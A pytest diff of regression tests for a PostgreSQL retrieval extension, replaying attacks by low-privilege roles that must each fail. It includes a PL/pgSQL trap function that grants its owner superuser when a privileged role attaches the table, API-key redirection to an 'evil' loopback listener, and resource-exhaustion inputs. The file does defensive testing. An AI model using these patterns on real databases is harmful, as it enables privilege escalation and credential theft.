@@ -1,0 +1,316 @@
+"""Hostile roles: every attack of issue 15, replayed as the role that made it, as a user
+would type it. Each one must fail with a clear error, or be harmless to everyone else.
+
+Roles (tests/conftest.py): alice and bob are rag_writer, carol rag_reader, dora rag_admin;
+the test database's owner `tester` is a superuser.
+"""
+from __future__ import annotations
+
+import socket
+import threading
+import time
+
+import psycopg
+import pytest
+from openai_fake import Scenario
+
+DOC = "# Refunds\n\nRefunds take five business days. Store credit is immediate."
+
+
+def _sqlstate(e) -> str:
+    return e.value.sqlstate
+
+
+def _ingest(conn, source="handbook.md", content=DOC):
+    return conn.execute("SELECT rag.ingest(%s, source => %s)", (content, source)).fetchone()[0]
+
+
+def _pid(conn) -> int:
+    return conn.execute("SELECT pg_backend_pid()").fetchone()[0]
+
+
+# -- 1. a writer cannot hold a backend or eat the machine ------------------------------
+
+def test_the_quadratic_heading_is_linear_now(connect):
+    alice = connect("alice")
+    alice.execute("SET statement_timeout = '5s'")
+    t0 = time.perf_counter()
+    _ingest(alice, "x", "# a" + " " * 120_000 + "b\n\ntext")     # 9 s for 30,000 spaces on main
+    assert time.perf_counter() - t0 < 5
+
+
+def test_heading_lines_do_not_become_100000_chunks(connect):
+    alice = connect("alice")
+    alice.execute("SET statement_timeout = '30s'")
+    t0 = time.perf_counter()
+    try:
+        doc = _ingest(alice, "h", "# h\n" * 100_000)            # 46 s, 5.5 GB and 100,000 chunks on main
+        n = alice.execute("SELECT count(*) FROM rag.chunks WHERE document_id = %s", (doc,)).fetchone()[0]
+        assert n <= 20_000
+    except psycopg.Error as e:
+        assert e.sqlstate == "54000" and "max_chunks_per_document" in str(e), e
+    assert time.perf_counter() - t0 < 30
+
+
+def test_a_session_cannot_raise_a_limit_that_protects_the_server(connect, db):
+    alice = connect("alice")
+    alice.execute("SET rag.max_document_bytes = 50000000")
+    assert alice.execute("SELECT value FROM rag.settings() WHERE name = 'max_document_bytes'").fetchone()[0] == "10000000"
+    with pytest.raises(psycopg.Error) as e:
+        _ingest(alice, "big", "word " * 2_100_000)              # 10.5 MB
+    assert _sqlstate(e) == "22023" and "over the limit" in str(e.value)
+    alice.execute("SET rag.max_document_bytes = 1000")          # lowering is fine
+    with pytest.raises(psycopg.Error) as e:
+        _ingest(alice, "small", "word " * 300)
+    assert _sqlstate(e) == "22023"
+    db.execute("SELECT rag.configure('max_document_bytes', '20000000')")   # an admin raises it
+    alice.execute("RESET rag.max_document_bytes")
+    assert alice.execute("SELECT value FROM rag.settings() WHERE name = 'max_document_bytes'").fetchone()[0] == "20000000"
+    for name in ("max_k", "max_query_chars", "max_chunks_per_document", "embedding_threads", "index_batch_size"):
+        alice.execute(f"SET rag.{name} = 999999999")
+        value, default = alice.execute("SELECT value, default_value FROM rag.settings() WHERE name = %s",
+                                       (name,)).fetchone()
+        assert value == default, name
+
+
+def test_a_token_longer_than_the_window_is_split(connect):
+    alice = connect("alice")
+    doc = _ingest(alice, "token", "x" * 60_000)                 # one chunk of 5 MB with tokens = 1 on main
+    rows = alice.execute("SELECT length(content), tokens FROM rag.chunks WHERE document_id = %s", (doc,)).fetchall()
+    assert len(rows) > 1 and sum(n for n, _ in rows) >= 60_000
+    assert max(n for n, _ in rows) <= 2_000 and all(t > 1 for _, t in rows[:-1])
+
+
+def test_html_with_a_cdata_opener_is_not_a_traceback(connect):
+    alice = connect("alice")
+    for i, html in enumerate(["<p>a<![ b</p>", "<html><body><![CDATA[x]]><p>after</p></body></html>", "<![" * 1000]):
+        try:
+            _ingest(alice, f"cdata{i}.html", html)
+        except psycopg.Error as e:
+            assert e.sqlstate.startswith("22") and "Traceback" not in str(e), e
+
+
+def _cancel_during(connect, db, how: str) -> tuple[str, float]:
+    """Start an ingest that takes minutes (the largest document allowed), then cancel or
+    terminate its backend; (SQLSTATE, seconds from the signal to the error)."""
+    alice = connect("alice")
+    pid = _pid(alice)
+    out: dict = {}
+
+    def run():
+        try:
+            _ingest(alice, "long", " ".join(f"sentence {i} of a long report about harbours." for i in range(200_000)))
+            out["state"] = "finished"
+        except psycopg.Error as e:
+            out["state"], out["at"] = e.sqlstate or type(e).__name__, time.perf_counter()
+    th = threading.Thread(target=run)
+    th.start()
+    deadline = time.time() + 30
+    while time.time() < deadline:     # wait until the backend is in the model / chunker loop
+        if db.execute("SELECT state = 'active' FROM pg_stat_activity WHERE pid = %s", (pid,)).fetchone()[0]:
+            break
+        time.sleep(0.1)
+    time.sleep(2)
+    t0 = time.perf_counter()
+    db.execute(f"SELECT pg_{how}_backend(%s)", (pid,))
+    th.join(30)
+    assert not th.is_alive() and "at" in out, out
+    return out["state"], out["at"] - t0
+
+
+def test_cancel_stops_a_long_ingest_within_a_second(connect, db):
+    state, secs = _cancel_during(connect, db, "cancel")
+    assert state == "57014" and secs < 1.0, (state, secs)
+
+
+def test_terminate_stops_a_long_ingest_within_a_second(connect, db):
+    state, secs = _cancel_during(connect, db, "terminate")
+    assert secs < 1.0, (state, secs)
+    assert db.execute("SELECT count(*) FROM rag.documents WHERE source = 'long'").fetchone()[0] == 0
+
+
+# -- 2. ids no role can forge or exhaust -----------------------------------------------
+
+def test_a_reader_cannot_take_the_next_ids_of_the_ledger(connect):
+    alice, carol = connect("alice"), connect("carol")
+    for sql in ["INSERT INTO rag.usage (id, operation, model, provider, input_tokens) "
+                "SELECT g, 'x', 'x', 'x', 0 FROM generate_series(1, 200000) AS g",
+                "INSERT INTO rag.usage (id, operation, model, provider, input_tokens) OVERRIDING SYSTEM VALUE "
+                "SELECT g, 'x', 'x', 'x', 0 FROM generate_series(1, 200000) AS g",
+                "INSERT INTO rag.answers (id, question, answer, model, mode, latency_ms) "
+                "OVERRIDING SYSTEM VALUE VALUES (999, 'q', 'a', 'm', 'x', 1)",
+                "INSERT INTO rag.usage (operation, model, provider, input_tokens, role_name) VALUES ('x', 'x', 'x', 0, 'alice')"]:
+        with pytest.raises(psycopg.Error) as e:
+            carol.execute(sql)
+        assert _sqlstate(e) in ("42501", "428C9"), sql
+    _ingest(alice)                                              # everyone else goes on
+    assert alice.execute("SELECT count(*) FROM rag.search('refunds', 3)").fetchone()[0] >= 1
+    assert alice.execute("SELECT rag.ask('How long do refunds take?')").fetchone()[0]["answer_id"] >= 1
+
+
+def test_a_writer_cannot_forge_document_ids_or_block_a_model_switch(connect, db):
+    alice, bob = connect("alice"), connect("bob")
+    for sql in ["INSERT INTO rag.documents (id, source, content) OVERRIDING SYSTEM VALUE VALUES (1000000, 's', 'c')",
+                "INSERT INTO rag.chunks (id, document_id, ord, content, tokens, content_hash, model, embedding) "
+                "OVERRIDING SYSTEM VALUE VALUES (5, 1, 0, 'c', 1, '\\x00', 'm', '[1]')"]:
+        with pytest.raises(psycopg.Error) as e:
+            alice.execute(sql)
+        assert _sqlstate(e) in ("42501", "428C9"), sql
+    _ingest(bob, "b.md")
+    chunk = db.execute("SELECT id FROM rag.chunks WHERE tenant = 'bob'").fetchone()[0]
+    # alice squats bob's chunk id in the next-model table: her own tenant's row, not his
+    alice.execute("INSERT INTO rag.embeddings_next (chunk_id, model, content_hash, embedding) "
+                  "VALUES (%s, 'all-MiniLM-L6-v2', '\\x00', rag.embed('x'))", (chunk,))
+    assert db.execute("SELECT tenant FROM rag.embeddings_next WHERE chunk_id = %s", (chunk,)).fetchone()[0] == "alice"
+    db.execute("INSERT INTO rag.embeddings_next (chunk_id, tenant, model, content_hash, embedding) "
+               "VALUES (%s, 'bob', 'all-MiniLM-L6-v2', '\\x00', rag.embed('x'))", (chunk,))   # his still fits
+
+
+# -- 3. attach: usable by the table's owner, safe for everyone else --------------------
+
+def test_a_writer_attaches_its_own_table(connect):
+    alice = connect("alice")
+    alice.execute("CREATE TABLE alice_notes (id int PRIMARY KEY, body text)")
+    alice.execute("INSERT INTO alice_notes VALUES (1, 'The harbour ferry leaves at six.')")
+    alice.execute("SELECT rag.attach('alice_notes', 'body')")            # 42501 on main
+    alice.execute("INSERT INTO alice_notes VALUES (2, 'The night train runs on Fridays.')")
+    assert alice.execute("SELECT count(*) FROM rag.documents WHERE attachment_id IS NOT NULL").fetchone()[0] == 2
+
+
+def test_attaching_another_roles_table_runs_none_of_its_code_unless_forced(connect, db):
+    alice, dora = connect("alice"), connect("dora")
+    # the attack: a key type whose CHECK runs alice's function with the attacher's rights
+    alice.execute("""CREATE FUNCTION alice_check(v int) RETURNS boolean LANGUAGE plpgsql AS $$
+                     BEGIN
+                         IF (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN
+                             EXECUTE 'ALTER ROLE alice SUPERUSER';
+                         END IF;
+                         RETURN true;
+                     END $$""")
+    alice.execute("CREATE DOMAIN alice_key AS int CHECK (alice_check(VALUE))")
+    alice.execute("CREATE TABLE trap (id alice_key PRIMARY KEY, body text)")
+    alice.execute("INSERT INTO trap VALUES (1, 'bait')")
+    alice.execute("GRANT SELECT ON trap TO dora")
+    for conn in (db, dora):
+        with pytest.raises(psycopg.Error) as e:
+            conn.execute("SELECT rag.attach('public.trap', 'body')")
+        assert _sqlstate(e) == "42501" and "belongs to role alice" in str(e.value)
+    assert not db.execute("SELECT rolsuper FROM pg_roles WHERE rolname = 'alice'").fetchone()[0]
+
+
+# -- 4. an API key goes only to the host it was set for --------------------------------
+
+class _Listener:
+    """A TCP listener on loopback that records what arrives (an admin's exfiltration target)."""
+
+    def __init__(self):
+        self.sock = socket.socket()
+        self.sock.bind(("127.0.0.1", 0))
+        self.sock.listen(8)
+        self.sock.settimeout(0.2)
+        self.data = b""
+        self.stop = False
+        self.th = threading.Thread(target=self._run, daemon=True)
+        self.th.start()
+
+    @property
+    def url(self) -> str:
+        return f"http://127.0.0.1:{self.sock.getsockname()[1]}/v1"
+
+    def _run(self):
+        deadline = time.time() + 120
+        while not self.stop and time.time() < deadline:
+            try:
+                c, _ = self.sock.accept()
+            except OSError:
+                continue
+            c.settimeout(1)
+            try:
+                self.data += c.recv(65536)
+            except OSError:
+                pass
+            c.close()
+
+    def close(self):
+        self.stop = True
+        self.th.join(2)
+        self.sock.close()
+
+
+def test_an_admin_cannot_send_a_key_elsewhere(db, connect, fake_openai):
+    secret = "sk-prod-" + "7" * 24
+    good = fake_openai.add("prod", Scenario(chat_text="Five business days [1]."))
+    db.execute("SELECT rag.set_api_key('prodkey', %s, base_url => %s)", (secret, good))
+    db.execute("SELECT rag.grant_api_key('prodkey', 'alice')")
+    db.execute("SELECT rag.add_model('prod', 'chat', base_url => %s, api_key => 'prodkey')", (good,))
+    dora, alice = connect("dora"), connect("alice")
+    _ingest(alice)
+    assert alice.execute("SELECT rag.ask('How long do refunds take?', model => 'prod')").fetchone()[0]["mode"] == "llm"
+    evil = _Listener()
+    try:
+        dora.execute("SELECT rag.grant_api_key('prodkey', 'dora')")           # allowed: use, not move
+        for sql, args in [
+            ("SELECT rag.add_model('steal', 'chat', base_url => %s, api_key => 'prodkey')", (evil.url,)),
+            ("UPDATE rag.models SET base_url = %s WHERE name = 'prod'", (evil.url,)),
+            ("UPDATE rag.api_keys SET base_url = %s WHERE name = 'prodkey'", (evil.url,)),
+            ("SELECT rag.set_api_key('prodkey', 'mine', base_url => %s)", (evil.url,)),
+            ("SELECT rag.set_api_key('envkey', env_var => 'PGDATA', base_url => %s)", (evil.url,)),
+        ]:
+            with pytest.raises(psycopg.Error) as e:
+                dora.execute(sql, args)
+            assert _sqlstate(e) == "42501", sql
+        # the table is only a mirror: a row rewritten by hand does not move the secret's binding
+        dora.execute("DELETE FROM rag.models WHERE name = 'prod'")
+        dora.execute("DELETE FROM rag.api_keys WHERE name = 'prodkey'")
+        dora.execute("INSERT INTO rag.api_keys (name, source, base_url) VALUES ('prodkey', 'file', %s)", (evil.url,))
+        dora.execute("INSERT INTO rag.api_key_grants (key_name, role_name) VALUES ('prodkey', 'dora')")
+        dora.execute("SELECT rag.add_model('steal', 'chat', base_url => %s, api_key => 'prodkey')", (evil.url,))
+        with pytest.raises(psycopg.Error) as e:
+            dora.execute("SELECT rag.ask('How long do refunds take?', model => 'steal')")
+        assert _sqlstate(e) == "42501" and "may only be sent to" in str(e.value)
+    finally:
+        evil.close()
+    assert secret.encode() not in evil.data and evil.data == b""
+
+
+# -- 5. smaller leaks ------------------------------------------------------------------
+
+def test_tenant_partitions_show_a_tenant_only_its_own(connect, db):
+    alice, bob = connect("alice"), connect("bob")
+    _ingest(alice)
+    _ingest(bob)
+    db.execute("SELECT rag.create_tenant_partition('alice')")
+    db.execute("SELECT rag.create_tenant_partition('bob')")
+    mine = alice.execute("SELECT bound FROM rag.tenant_partitions").fetchall()
+    assert sorted(b for (b,) in mine) == ["DEFAULT", "FOR VALUES IN ('alice')"]
+    assert db.execute("SELECT count(*) FROM rag.tenant_partitions").fetchone()[0] == 3   # the owner: all
+
+
+def test_a_group_role_is_not_a_tenant(connect):
+    alice = connect("alice")
+    alice.execute("SET ROLE rag_writer")
+    with pytest.raises(psycopg.Error) as e:
+        _ingest(alice, "shared.md")
+    assert _sqlstate(e) == "42501" and "group role" in str(e.value)
+    with pytest.raises(psycopg.Error) as e:
+        alice.execute("SELECT count(*) FROM rag.search('refunds', 3)")
+    assert _sqlstate(e) == "42501"
+
+
+def test_a_stream_handle_is_read_only_by_the_role_that_opened_it(db):
+    db.execute("CREATE ROLE mallory LOGIN IN ROLE rag_reader")
+    db.execute("GRANT mallory TO tester")
+    try:
+        _ingest(db)
+        db.execute("BEGIN")
+        handle = db.execute("SELECT rag._ask_stream_open('How long do refunds take?', 4, NULL)").fetchone()[0]
+        db.execute("SET LOCAL ROLE mallory")
+        with pytest.raises(psycopg.Error) as e:
+            db.execute("SELECT * FROM rag._ask_stream_read(%s)", (handle,))
+        assert _sqlstate(e) == "22023"
+        db.execute("ROLLBACK")
+        rows = db.execute("SELECT * FROM rag._ask_stream_read(%s)", (handle,)).fetchall()   # its owner still can
+        assert rows and rows[-1][2] is not None
+    finally:
+        db.execute("ROLLBACK") if db.info.transaction_status else None
+        db.execute("DROP ROLE mallory")
